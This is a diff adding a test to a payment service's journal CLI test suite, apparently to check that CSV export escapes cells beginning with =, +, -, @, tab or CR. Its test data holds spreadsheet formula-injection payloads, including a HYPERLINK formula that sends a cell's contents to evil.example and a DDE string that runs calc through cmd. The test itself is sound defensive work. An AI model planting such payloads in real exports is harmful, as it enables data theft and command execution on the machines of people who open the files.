@@ -2,6 +2,9 @@ import { execFile } from 'node:child_process';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import request from 'supertest';
+import { declinedAnswer } from '../../src/connector/answer';
+import { openSqliteJournal } from '../../src/store/sqlite-journal';
+import { claimFor } from '../helpers/journal-data';
 import { REPO_ROOT, startService, temporaryDataDir } from '../helpers/service';
 import { basicAuth, cardCharge } from '../helpers/test-data';
 
@@ -50,3 +53,69 @@ describe('npm run journal', () => {
     await expect(journal('list', '--since', 'last-week')).rejects.toMatchObject({ code: 1, stderr: expect.stringContaining('Invalid query: since') });
   });
 });
+
+describe('npm run journal CSV export with cells a spreadsheet would run as formulas', () => {
+  const dataDir = temporaryDataDir();
+  // Through the service: what a caller can put in transaction_id.
+  const paidIds = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)'];
+  // Straight into the journal: error_message may hold tab and CR, which transaction_id may not.
+  const errorMessages: Record<string, string> = { 'tab-message': '\t=1+1', 'cr-message': '\r=1+1', 'equals-message': '=1+1' };
+
+  beforeAll(async () => {
+    const service = await startService({ DATA_DIR: dataDir });
+    try {
+      for (const transactionId of paidIds) {
+        const paid = await request(service.url).post('/').set('Authorization', basicAuth()).send(cardCharge({ transaction_id: transactionId }));
+        expect(paid.body).toMatchObject({ error_code: null });
+      }
+    } finally {
+      await service.stop();
+    }
+    const journal = openSqliteJournal(dataDir);
+    try {
+      for (const [transactionId, message] of Object.entries(errorMessages)) {
+        const claim = claimFor(transactionId);
+        await journal.claim(claim, Date.now());
+        await journal.settle(
+          claim,
+          { status: 'declined', gatewayTransactionId: null, errorCode: 'GATEWAY_REJECTED', errorMessage: message, gatewayMs: 5, answer: declinedAnswer('charge', 'GATEWAY_REJECTED', message) },
+          Date.now(),
+        );
+      }
+    } finally {
+      await journal.close();
+    }
+  });
+
+  test('when exported, then every cell starting with = + - @ tab or CR is prefixed with a quote and keeps its text', async () => {
+    const { stdout } = await run(process.execPath, [CLI, 'list', '--format', 'csv'], { env: { PATH: process.env.PATH ?? '', DATA_DIR: dataDir } });
+    const [header, ...rows] = readCsv(stdout);
+    const column = (name: string) => header!.indexOf(name);
+    const byId = new Map(rows.map((row) => [row[column('transaction_id')]!.replace(/^'/, ''), row]));
+
+    for (const transactionId of paidIds) expect(byId.get(transactionId)?.[column('transaction_id')]).toBe(`'${transactionId}`);
+    for (const [transactionId, message] of Object.entries(errorMessages)) expect(byId.get(transactionId)?.[column('error_message')]).toBe(`'${message}`);
+    expect(rows).toHaveLength(paidIds.length + Object.keys(errorMessages).length);
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+});
+
+/** RFC 4180 as csv-stringify writes it: quoted cells may hold commas, quotes ("") and line breaks. */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const char = text[i]!;
+    if (quoted) {
+      if (char === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"') quoted = true;
+    else if (char === ',') row.push(cell), (cell = '');
+    else if (char === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
+    else cell += char;
+  }
+  return rows;
+}
